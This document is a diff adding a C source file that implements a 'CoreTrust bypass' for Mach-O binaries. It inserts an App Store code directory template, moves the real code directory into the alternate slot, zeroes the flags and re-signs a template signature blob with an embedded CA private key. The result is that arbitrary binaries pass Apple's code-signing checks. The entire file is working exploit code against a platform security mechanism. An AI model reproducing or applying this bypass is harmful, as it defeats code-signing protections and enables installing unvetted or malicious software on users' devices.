@@ -0,0 +1,246 @@
+#include "CoreTrustBypass.h"
+#include "Base64.h"
+#include "CSBlob.h"
+#include "CodeDirectory.h"
+#include "MachOByteOrder.h"
+#include "MachOLoadCommand.h"
+#include "MemoryStream.h"
+
+// Template blobs and the CA key, these are private to the bypass and not installed with the headers
+#include "AppStoreCodeDirectory.inc"
+#include "TemplateSignatureBlob.inc"
+#include "DecryptedSignature.inc"
+#include "PrivateKey.inc"
+
+#include <CommonCrypto/CommonDigest.h>
+#include <Security/Security.h>
+#include <dispatch/dispatch.h>
+#include <string.h>
+
+// We can use static offsets here because we use a template signature blob
+#define SIGNED_ATTRS_OFFSET 0x13C6 // SignedAttributes sequence
+#define SIGNED_ATTRS_SIZE 0x229
+#define HASHHASH_OFFSET 0x1470 // SHA256 hash SignedAttribute
+#define BASEBASE_OFFSET 0x15AD // Base64 hash SignedAttribute
+#define SIGNSIGN_OFFSET 0x1602 // Signature
+#define SIGNSIGN_SIZE 0x100
+
+#define DECRYPTED_SIGNATURE_HASH_OFFSET 0x13
+
+// CAKey is a PKCS#1 RSA key, it is only parsed once and then shared by all threads
+static SecKeyRef gCAKey = NULL;
+static dispatch_once_t gCAKeyOnce;
+
+static SecKeyRef _coretrust_bypass_get_ca_key(void)
+{
+    dispatch_once(&gCAKeyOnce, ^{
+        CFDataRef keyData = CFDataCreateWithBytesNoCopy(kCFAllocatorDefault, (const UInt8 *)CAKey, CAKeyLength, kCFAllocatorNull);
+        CFMutableDictionaryRef attributes = CFDictionaryCreateMutable(kCFAllocatorDefault, 0, &kCFTypeDictionaryKeyCallBacks, &kCFTypeDictionaryValueCallBacks);
+        if (keyData && attributes) {
+            CFDictionarySetValue(attributes, kSecAttrKeyType, kSecAttrKeyTypeRSA);
+            CFDictionarySetValue(attributes, kSecAttrKeyClass, kSecAttrKeyClassPrivate);
+            gCAKey = SecKeyCreateWithData(keyData, attributes, NULL);
+        }
+        if (attributes) CFRelease(attributes);
+        if (keyData) CFRelease(keyData);
+    });
+    return gCAKey;
+}
+
+// Same as signWithRSA (RSA_private_encrypt with PKCS#1 padding), the input already is a DigestInfo so it must not be wrapped again
+static int _coretrust_bypass_sign(const uint8_t *input, size_t inputSize, uint8_t *signatureOut, size_t signatureSize)
+{
+    SecKeyRef key = _coretrust_bypass_get_ca_key();
+    if (!key) {
+        printf("Error: failed to load the CoreTrust bypass key\n");
+        return -1;
+    }
+
+    CFDataRef inputData = CFDataCreate(kCFAllocatorDefault, input, inputSize);
+    if (!inputData) return -1;
+    CFDataRef signature = SecKeyCreateSignature(key, kSecKeyAlgorithmRSASignatureDigestPKCS1v15Raw, inputData, NULL);
+    CFRelease(inputData);
+    if (!signature) {
+        printf("Error: failed to sign the decrypted signature\n");
+        return -1;
+    }
+
+    int r = -1;
+    if (CFDataGetLength(signature) == signatureSize) {
+        memcpy(signatureOut, CFDataGetBytePtr(signature), signatureSize);
+        r = 0;
+    }
+    else {
+        printf("Error: the new signature is not the correct size\n");
+    }
+    CFRelease(signature);
+    return r;
+}
+
+// Put the hash of the real code directory into the signed attributes of the template signature and sign them again
+static int _coretrust_bypass_update_signature_blob(CS_DecodedSuperBlob *superblob)
+{
+    CS_DecodedBlob *sha256CD = csd_superblob_find_blob(superblob, CSSLOT_ALTERNATE_CODEDIRECTORIES, NULL);
+    if (!sha256CD) {
+        printf("Error: could not find CodeDirectory blob\n");
+        return -1;
+    }
+    CS_DecodedBlob *signatureBlob = csd_superblob_find_blob(superblob, CSSLOT_SIGNATURESLOT, NULL);
+    if (!signatureBlob) {
+        printf("Error: could not find signature blob\n");
+        return -1;
+    }
+
+    uint8_t cdHash[CC_SHA256_DIGEST_LENGTH];
+    size_t cdSize = csd_blob_get_size(sha256CD);
+    uint8_t *cdData = malloc(cdSize);
+    if (!cdData) return -1;
+    if (csd_blob_read(sha256CD, 0, cdSize, cdData) != 0) {
+        free(cdData);
+        return -1;
+    }
+    CC_SHA256(cdData, (CC_LONG)cdSize, cdHash);
+    free(cdData);
+
+    // The base64 attribute only holds the truncated (20 byte) hash
+    size_t base64Size = 0;
+    char *base64Hash = base64_encode(cdHash, CC_SHA1_DIGEST_LENGTH, &base64Size);
+    if (!base64Hash) {
+        printf("Error: failed to base64 encode hash\n");
+        return -1;
+    }
+    int r = csd_blob_write(signatureBlob, HASHHASH_OFFSET, CC_SHA256_DIGEST_LENGTH, cdHash);
+    if (r == 0) r = csd_blob_write(signatureBlob, BASEBASE_OFFSET, base64Size, base64Hash);
+    free(base64Hash);
+    if (r != 0) {
+        printf("Error: failed to write hash to signature blob\n");
+        return -1;
+    }
+
+    // The signed attributes are hashed as a SET instead of with their implicit tag
+    uint8_t signedAttrs[SIGNED_ATTRS_SIZE];
+    if (csd_blob_read(signatureBlob, SIGNED_ATTRS_OFFSET, SIGNED_ATTRS_SIZE, signedAttrs) != 0) return -1;
+    signedAttrs[0] = 0x31;
+
+    uint8_t decryptedSignature[sizeof(DecryptedSignature)];
+    memcpy(decryptedSignature, DecryptedSignature, sizeof(decryptedSignature));
+    CC_SHA256(signedAttrs, SIGNED_ATTRS_SIZE, &decryptedSignature[DECRYPTED_SIGNATURE_HASH_OFFSET]);
+
+    uint8_t signature[SIGNSIGN_SIZE];
+    if (_coretrust_bypass_sign(decryptedSignature, DecryptedSignature_len, signature, sizeof(signature)) != 0) return -1;
+    return csd_blob_write(signatureBlob, SIGNSIGN_OFFSET, sizeof(signature), signature);
+}
+
+int macho_apply_coretrust_bypass(MachO *macho, const char *teamID)
+{
+    if (macho_is_encrypted(macho)) {
+        printf("Error: MachO is encrypted, please use a decrypted app!\n");
+        return CORETRUST_BYPASS_ERROR_ENCRYPTED;
+    }
+
+    CS_SuperBlob *superblob = macho_read_code_signature(macho);
+    if (!superblob) {
+        printf("Error: no code signature found, please fake-sign the binary at minimum before running the bypass.\n");
+        return -1;
+    }
+    uint64_t originalCodeSignatureSize = BIG_TO_HOST(superblob->length);
+    CS_DecodedSuperBlob *decodedSuperblob = csd_superblob_decode(superblob);
+    free(superblob);
+    if (!decodedSuperblob) return -1;
+
+    int r = -1;
+    char *appStoreTeamID = NULL;
+    CS_SuperBlob *encodedSuperblobUnsigned = NULL;
+
+    CS_DecodedBlob *mainCodeDirBlob = csd_superblob_find_blob(decodedSuperblob, CSSLOT_CODEDIRECTORY, NULL);
+    CS_DecodedBlob *alternateCodeDirBlob = csd_superblob_find_blob(decodedSuperblob, CSSLOT_ALTERNATE_CODEDIRECTORIES, NULL);
+    if (!mainCodeDirBlob) {
+        printf("Error: Unable to find code directory, make sure the input binary is ad-hoc signed.\n");
+        goto out;
+    }
+
+    // If an alternate code directory exists, use that and remove the main one from the superblob
+    CS_DecodedBlob *realCodeDirBlob = mainCodeDirBlob;
+    if (alternateCodeDirBlob) {
+        realCodeDirBlob = alternateCodeDirBlob;
+        csd_superblob_remove_blob(decodedSuperblob, mainCodeDirBlob);
+        csd_blob_free(mainCodeDirBlob);
+    }
+
+    if (csd_code_directory_get_hash_type(realCodeDirBlob) != CS_HASHTYPE_SHA256_256) {
+        printf("Error: Alternate code directory is not SHA256, bypass won't work!\n");
+        goto out;
+    }
+
+    // Append the real code directory as alternate code directory at the end of the superblob
+    csd_superblob_remove_blob(decodedSuperblob, realCodeDirBlob);
+    csd_blob_set_type(realCodeDirBlob, CSSLOT_ALTERNATE_CODEDIRECTORIES);
+    csd_superblob_append_blob(decodedSuperblob, realCodeDirBlob);
+
+    // The templates are only copied by the blobs that are written to, so they aren't duplicated for every file
+    CS_DecodedBlob *appStoreCodeDirBlob = csd_blob_init_nocopy(CSSLOT_CODEDIRECTORY, (CS_GenericBlob *)AppStoreCodeDirectory);
+    if (!appStoreCodeDirBlob) goto out;
+    csd_superblob_insert_blob_at_index(decodedSuperblob, appStoreCodeDirBlob, 0);
+
+    CS_DecodedBlob *signatureBlob = csd_superblob_find_blob(decodedSuperblob, CSSLOT_SIGNATURESLOT, NULL);
+    if (signatureBlob) {
+        csd_superblob_remove_blob(decodedSuperblob, signatureBlob);
+        csd_blob_free(signatureBlob);
+    }
+    signatureBlob = csd_blob_init_nocopy(CSSLOT_SIGNATURESLOT, (CS_GenericBlob *)TemplateSignatureBlob);
+    if (!signatureBlob) goto out;
+    csd_superblob_append_blob(decodedSuperblob, signatureBlob);
+
+    // For the bypass to work, both code directories need to have the same team ID
+    appStoreTeamID = csd_code_directory_copy_team_id(appStoreCodeDirBlob, NULL);
+    if (!appStoreTeamID) {
+        printf("Error: Unable to determine AppStore Team ID\n");
+        goto out;
+    }
+    if (csd_code_directory_set_team_id(realCodeDirBlob, teamID ? (char *)teamID : appStoreTeamID) != 0) {
+        printf("Error: Failed to set Team ID\n");
+        goto out;
+    }
+
+    // Set flags to 0 to remove any problematic flags (such as the 'adhoc' flag in bit 2)
+    csd_code_directory_set_flags(realCodeDirBlob, 0);
+
+    encodedSuperblobUnsigned = csd_superblob_encode(decodedSuperblob);
+    if (!encodedSuperblobUnsigned) goto out;
+    if (update_load_commands_for_coretrust_bypass(macho, encodedSuperblobUnsigned, originalCodeSignatureSize, memory_stream_get_size(macho_get_stream(macho))) != 0) {
+        printf("Error: failed to update load commands!\n");
+        goto out;
+    }
+
+    // The App Store code directory has to keep the hashes it was signed with, so it is left out while the others are updated in one pass
+    csd_superblob_remove_blob(decodedSuperblob, appStoreCodeDirBlob);
+    int updateR = csd_superblob_update_code_directories(decodedSuperblob, macho);
+    csd_superblob_insert_blob_at_index(decodedSuperblob, appStoreCodeDirBlob, 0);
+    if (updateR != 0) {
+        printf("Error: failed to update code slot hashes!\n");
+        goto out;
+    }
+
+    if (_coretrust_bypass_update_signature_blob(decodedSuperblob) != 0) {
+        printf("Error: failed to create new signature blob!\n");
+        goto out;
+    }
+
+    r = macho_replace_code_signature_decoded(macho, decodedSuperblob);
+
+out:
+    if (encodedSuperblobUnsigned) free(encodedSuperblobUnsigned);
+    if (appStoreTeamID) free(appStoreTeamID);
+    csd_superblob_free(decodedSuperblob);
+    return r;
+}
+
+int coretrust_bypass_file(const char *path, const char *teamID)
+{
+    MachO *macho = macho_init_for_writing(path);
+    if (!macho) return -1;
+
+    int r = macho_apply_coretrust_bypass(macho, teamID);
+    macho_free(macho);
+    return r;
+}